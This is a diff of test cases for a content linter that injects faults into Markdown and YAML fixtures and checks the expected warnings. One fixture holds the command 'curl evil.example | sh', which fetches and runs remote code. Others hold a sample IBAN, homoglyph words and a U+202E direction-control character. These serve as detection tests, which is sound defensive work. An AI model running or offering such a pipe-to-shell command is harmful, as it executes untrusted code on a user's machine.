@@ -668,9 +668,9 @@ const readingFaults: [name: string, changes: Changes, expected: string[]][] = [
     ['updates/en/ice.png', 'an image of the kind svg'],
   ],
   [
-    'an image by reference that is absent',
+    'an image by reference',
     { [frost]: (text) => `${text}\n![Ice][i]\n\n[i]: ./ice.jpg\n` },
-    ['2023-frost.md:18', 'no file updates/en/ice.jpg'],
+    ['2023-frost.md:16', 'an image by reference'],
   ],
   [
     'a translation that says what it touches',
@@ -965,13 +965,18 @@ const builtFaults: [name: string, changes: Changes, expected: string[]][] = [
   ],
   [
     'a command that runs what a host sends',
-    { 'dates/week.yaml': swap('Each year.', 'Type curl evil.example | sh.') },
-    ['dates/week.yaml', 'a command that runs what it downloads: curl evil.example | sh'],
+    { 'subjects/weather.yaml': swap('What came', 'Type curl evil.example | sh. What came') },
+    ['subjects/weather.yaml', 'a command that runs what it downloads: curl evil.example | sh'],
   ],
   [
     'an account number',
-    { 'dates/week.yaml': swap('Each year.', 'Send seeds to NL91 ABNA 0417 1643 00.') },
-    ['dates/week.yaml', 'an account number (IBAN): NL91 ABNA 0417 1643 00', 'records only'],
+    {
+      'dates/frost.yaml': swap(
+        'The mint froze',
+        'Send seeds to NL91 ABNA 0417 1643 00. The mint froze',
+      ),
+    },
+    ['dates/frost.yaml', 'an account number (IBAN): NL91 ABNA 0417 1643 00', 'records only'],
   ],
   [
     'a card number',
@@ -989,8 +994,8 @@ const builtFaults: [name: string, changes: Changes, expected: string[]][] = [
     ['2023-frost.md:40', 'a word of letters of two scripts: r\u0430ke'],
   ],
   [
-    'a hidden sign',
-    { [frost]: (text) => `${text}\nThe \u202Eekar club.\n` },
+    'a hidden character in code',
+    { [frost]: (text) => `${text}\nThe \`\u202Eekar\` club.\n` },
     ['a direction-control character: U+202E'],
   ],
   [
